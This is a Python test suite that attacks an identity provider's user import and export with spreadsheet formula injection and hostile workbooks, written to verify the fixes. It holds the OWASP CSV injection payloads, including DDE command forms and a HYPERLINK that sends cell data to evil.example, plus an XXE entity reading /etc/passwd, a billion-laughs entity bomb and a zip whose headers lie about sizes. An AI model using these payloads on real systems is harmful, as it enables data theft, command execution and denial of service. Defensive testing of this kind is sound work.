"""Attack suite: uploads and downloads of spreadsheets (issue 22).

Formula injection: text an attacker controls (a name they give themselves through SCIM, a
username they type at the sign-in form) reaches every export — users (CSV and XLSX), the audit
log, the reports — and is read back with independent readers (``csv``, openpyxl): no cell a
spreadsheet would evaluate. Hostile files at ``POST /api/v1/users/import``: a clear 4xx within
bounded time and memory (tracemalloc's peak of the request), nothing imported (every table
compared).

Cited, not repeated: an honest zip bomb, a DOCTYPE in a ``.xml`` part, a file over the size
limit, more rows than allowed (tests/api/test_api_import_export.py), formula cells in an
imported XLSX, generated CSV files in every encoding and the round trip of escaped values
(tests/fuzz/test_fuzz_user_import.py).

Found here and fixed in ``idp.manage.user_sheet``: a 1.5 KB workbook whose worksheet declares
``<dimension ref="A1:XFD1048576"/>`` (or holds one row numbered 1048576) made the import walk
17 billion empty cells (read-only openpyxl pads to the declared size), hanging a worker; a
DOCTYPE in a UTF-16 part, or in a part whose name does not end in ``.xml``, passed the
DOCTYPE check (the XML parser refused it only because defusedxml happens to be installed); a
40 KB workbook of a million shared strings behind two rows held a worker for 20-100 s (openpyxl
reads the whole table before the first row).
"""

from __future__ import annotations

import csv
import io
import threading
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from api_kit import api, service_token
from directory_api_kit import PROBLEM, snapshot
from login_kit import login
from xlsx_kit import shared_strings_workbook

from idp.manage.user_sheet import FORMULA_START

# OWASP CSV injection payloads, the DDE forms among them.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]

MB = 1024 * 1024


def _import(client, token, data: bytes, filename: str):
    return api(
        client,
        "POST",
        "/api/v1/users/import",
        token,
        data={"file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def _measured(fn, seconds: float = 60.0):
    """``fn()`` in a thread under tracemalloc: (its answer, seconds taken, peak bytes). The
    thread is given ``seconds``; a hang fails here instead of holding the test run."""
    box: dict = {}

    def run() -> None:
        box["resp"] = fn()

    tracemalloc.start()
    start = time.monotonic()
    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    took = time.monotonic() - start
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert not worker.is_alive(), f"still working after {seconds} s"
    return box["resp"], took, peak


def _no_formula_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START, row
    return rows


def _no_formula_xlsx(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value:
                    assert cell.value[0] not in FORMULA_START, cell.value
            values.append([c.value for c in row])
    return values


@pytest.fixture
def hostile_names(app):
    """Users named by an attacker through SCIM (one per payload), and failed sign-ins with each
    payload as the username (the audit log and the failed-logins report carry them)."""
    scim = service_token(app, scope="scim")
    client = app.test_client()
    for i, payload in enumerate(PAYLOADS):
        resp = api(
            client,
            "POST",
            "/scim/v2/Users",
            scim,
            json={
                "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"],
                "userName": f"victim{i}",
                "displayName": payload,
                "name": {"givenName": payload, "familyName": payload},
            },
            headers={"Content-Type": "application/scim+json"},
        )
        assert resp.status_code == 201, resp.get_data(as_text=True)
        login(app.test_client(), payload.strip() or "x", "wrong-password")
    return service_token(app)


def test_formula_payloads_reach_no_export_unescaped(app, hostile_names):
    client, token = app.test_client(), hostile_names
    seen = set()
    for path, query in (
        ("/api/v1/users/export", {"format": "csv"}),
        ("/api/v1/audit/events/export", {"format": "csv"}),
        ("/api/v1/reports/users-without-mfa", {"format": "csv"}),
        ("/api/v1/reports/failed-logins", {"format": "csv", "part": "accounts"}),
    ):
        resp = api(client, "GET", path, token, query_string=query)
        assert resp.status_code == 200, (path, resp.get_data(as_text=True)[:300])
        rows = _no_formula_csv(resp.get_data(as_text=True))
        seen.update(cell for row in rows for cell in row)
    for path, query in (
        ("/api/v1/users/export", {"format": "xlsx"}),
        ("/api/v1/reports/users-without-mfa", {"format": "xlsx"}),
        ("/api/v1/reports/failed-logins", {"format": "xlsx", "part": "accounts"}),
    ):
        resp = api(client, "GET", path, token, query_string=query)
        assert resp.status_code == 200, (path, resp.get_data(as_text=True)[:300])
        seen.update(v for row in _no_formula_xlsx(resp.data) for v in row if isinstance(v, str))
    # The payloads did arrive (escaped with a leading '), so the check above looked at them.
    for payload in ("=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert any(s == "'" + payload for s in seen), payload


def test_console_downloads_are_escaped_too(app, hostile_names):
    from admin_kit import make_admin, signed_in

    make_admin(app.extensions["idp"], "root")
    client = signed_in(app, "root")
    for path in (
        "/admin/users/export?format=csv",
        "/admin/audit/export?format=csv",
        "/admin/reports/users-without-mfa?format=csv",
    ):
        resp = client.get(path)
        assert resp.status_code == 200, (path, resp.status_code)
        _no_formula_csv(resp.get_data(as_text=True))
    resp = client.get("/admin/users/export?format=xlsx")
    assert resp.status_code == 200
    _no_formula_xlsx(resp.data)


# --- hostile workbooks -------------------------------------------------------------------------

CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
SST_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>username</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>email</t></is></c></row>'
)
ONE_ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>mallory</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>m@example.org</t></is></c></row>'
)


def _workbook(
    sheet_rows: str = HEADER + ONE_ROW,
    *,
    dimension: str = "A1:B2",
    sheets: int = 1,
    shared: str | bytes | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    sheet_list = "".join(
        f'<sheet name="s{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 1)
    )
    wb_rels = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/worksheet" '
        f'Target="worksheets/sheet{min(i, 2)}.xml"/>'
        for i in range(1, sheets + 1)
    )
    if shared is not None:
        wb_rels += (
            f'<Relationship Id="rSst" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><dimension ref="{dimension}"/>'
        f"<sheetData>{sheet_rows}</sheetData></worksheet>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml", CT if shared is None else CT.replace("</Types>", SST_TYPE)
        )
        z.writestr("_rels/.rels", RELS)
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} {R_NS}><sheets>{sheet_list}'
            "</sheets></workbook>",
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{wb_rels}</Relationships>',
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        if sheets > 1:
            z.writestr("xl/worksheets/sheet2.xml", sheet)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def _lying_sizes(part_size: int) -> bytes:
    """A workbook whose sheet part inflates to ``part_size`` bytes but whose zip headers
    declare 1000: a check of the declared sizes alone would let it through."""
    padding = " " * part_size
    data = bytearray(_workbook(HEADER + ONE_ROW + f"<!--{padding}-->"))
    name = b"xl/worksheets/sheet1.xml"
    for sig, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            if data[at + name_at : at + name_at + len(name)] == name:
                data[at + size_at : at + size_at + 4] = (1000).to_bytes(4, "little")
            at += 4
    return bytes(data)


BILLION_LAUGHS = (
    '<!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
XXE = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _sst(doctype: str, encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>{doctype}<sst {NS}>'
        "<si><t>&d;</t></si></sst>"
    )
    return text.encode(encoding) if encoding == "utf-8" else text.encode("utf-16")


HOSTILE = {
    # name: (file bytes, words the problem's detail holds)
    "whole-sheet dimension and one row numbered 1048576": (
        lambda: _workbook(
            HEADER + '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>',
            dimension="A1:XFD1048576",
        ),
        "beyond row",
    ),
    "a cell in column XFD": (
        lambda: _workbook(
            HEADER + '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>'
        ),
        "columns",
    ),
    "sizes in the zip headers lie (64 MB part)": (lambda: _lying_sizes(64 * MB), "damaged"),
    "billion laughs in UTF-16 sharedStrings": (
        lambda: _workbook(shared=_sst(BILLION_LAUGHS, "utf-16")),
        "DOCTYPE",
    ),
    "external entity in UTF-16 sharedStrings": (
        lambda: _workbook(shared=_sst(XXE, "utf-16")),
        "DOCTYPE",
    ),
    "DOCTYPE in a part not named .xml": (
        lambda: _workbook(extra={"xl/evil.bin": _sst(BILLION_LAUGHS)}),
        "DOCTYPE",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_workbook_is_refused_quickly_in_bounded_memory(app, case):
    make, words = HOSTILE[case]
    data = make()
    assert len(data) < 200_000  # small files, all of them
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    before = snapshot(svc)
    resp, took, peak = _measured(lambda: _import(client, token, data, "users.xlsx"))
    assert resp.status_code == 409, resp.get_data(as_text=True)[:400]
    assert resp.mimetype == PROBLEM and words in resp.json["detail"], resp.json
    assert took < 30, took
    assert peak < 200 * MB, peak
    assert snapshot(svc) == before


@pytest.mark.parametrize(
    ("empty_cells", "on_sheet"), [(0, 1), (1_000_000, 2)], ids=["two rows", "cells on sheet 2"]
)
def test_a_million_shared_strings_are_refused_before_they_are_parsed(app, empty_cells, on_sheet):
    """A million shared strings behind a sheet of two rows, also with a second worksheet of a
    million empty cells to "use" them (only the first sheet is imported, so only its cells
    count): refused at once, nothing imported (not a dry run)."""
    started = time.monotonic()
    data = shared_strings_workbook(1_000_000, empty_cells, on_sheet)
    assert time.monotonic() - started < 2 and len(data) < 100_000
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    before = snapshot(svc)
    resp, took, _peak = _measured(lambda: _import(client, token, data, "users.xlsx"))
    assert resp.status_code == 409, resp.get_data(as_text=True)[:400]
    assert resp.mimetype == PROBLEM and "shared strings" in resp.json["detail"], resp.json
    assert took < 5, took
    assert snapshot(svc) == before


def test_a_workbook_read_past_its_time_budget_is_refused(app, monkeypatch):
    """A first sheet with a row of a million empty cells lets a million shared strings through
    the count; openpyxl's parse of them is stopped by the reading budget (1 s here), nothing
    imported. The same file within the budget is the user mallory."""
    from idp.manage import user_sheet

    monkeypatch.setattr(user_sheet, "XLSX_READ_SECONDS", 1.0)
    data = shared_strings_workbook(1_000_000, 1_000_000, on_sheet=1)
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    before = snapshot(svc)
    started = time.monotonic()  # not under tracemalloc, which slows the parse it stops
    resp = _import(client, token, data, "users.xlsx")
    took = time.monotonic() - started
    assert resp.status_code == 409, resp.get_data(as_text=True)[:400]
    assert resp.mimetype == PROBLEM and "more than 1 s to read" in resp.json["detail"], resp.json
    assert took < 8, took
    assert snapshot(svc) == before


def test_a_declared_dimension_of_a_whole_sheet_is_not_walked(app):
    """``<dimension ref="A1:XFD1048576"/>`` over a header and one row: the claim is ignored
    (rows are not padded to 16384 cells), the one row is read (a dry run) at once. With a row
    numbered 1048576 as well, the same claim was 17 billion empty cells before the fix (the
    case in ``HOSTILE``)."""
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    data = _workbook(dimension="A1:XFD1048576")
    before = snapshot(svc)
    resp, took, peak = _measured(
        lambda: api(
            client,
            "POST",
            "/api/v1/users/import",
            token,
            data={"file": (io.BytesIO(data), "users.xlsx"), "dry_run": "true"},
            content_type="multipart/form-data",
        )
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert resp.json["created"] == 1 and resp.json["dry_run"] is True, resp.json
    assert took < 30 and peak < 100 * MB, (took, peak)
    assert snapshot(svc) == before


def test_many_sheets_are_read_in_bounded_time_and_memory(app):
    """2000 sheets: only the first is read (a dry run, so nothing is written either way)."""
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    data = _workbook(sheets=2000)
    before = snapshot(svc)
    resp, took, peak = _measured(
        lambda: api(
            client,
            "POST",
            "/api/v1/users/import",
            token,
            data={"file": (io.BytesIO(data), "users.xlsx"), "dry_run": "true"},
            content_type="multipart/form-data",
        )
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert resp.json["created"] == 1 and resp.json["dry_run"] is True, resp.json
    assert took < 60 and peak < 300 * MB, (took, peak)
    assert snapshot(svc) == before


@pytest.mark.parametrize(
    ("case", "data", "status", "words"),
    [
        ("a 9 MB field", b"username,email\n" + b"a" * (9 * MB) + b",x@example.org\n", 409, "CSV"),
        (
            "one line of 4 million separators",
            b"username,email\n" + b"," * (4 * MB) + b"\n",
            409,
            "columns",
        ),
        ("two million rows", b"username,email\n" + b"a,b\n" * 2_000_000, 409, "rows"),
        ("Latin-1", "username,email\nJos\u00e9,j@example.org\n".encode("latin-1"), 409, "UTF-8"),
        ("UTF-16", "username,email\nx,x@example.org\n".encode("utf-16"), 409, "binary"),
        (
            "over the size limit (11 MB)",
            b"username,email\n" + b"a,b\n" * (11 * MB // 4),
            413,
            "limit",
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 60 else "",
)
def test_hostile_csv_is_refused_quickly_in_bounded_memory(app, case, data, status, words):
    svc = app.extensions["idp"]
    token, client = service_token(app), app.test_client()
    before = snapshot(svc)
    resp, took, peak = _measured(lambda: _import(client, token, data, "users.csv"))
    assert resp.status_code == status, (case, resp.get_data(as_text=True)[:400])
    assert resp.mimetype == PROBLEM and words in resp.json["detail"], resp.json
    assert took < 60, took
    # The upload itself is held a few times over (request body, decoded text, the reader's
    # list of fields: 4 million empty fields are 60 MB of list and objects).
    assert peak < 20 * max(len(data), MB), (case, peak)
    assert snapshot(svc) == before
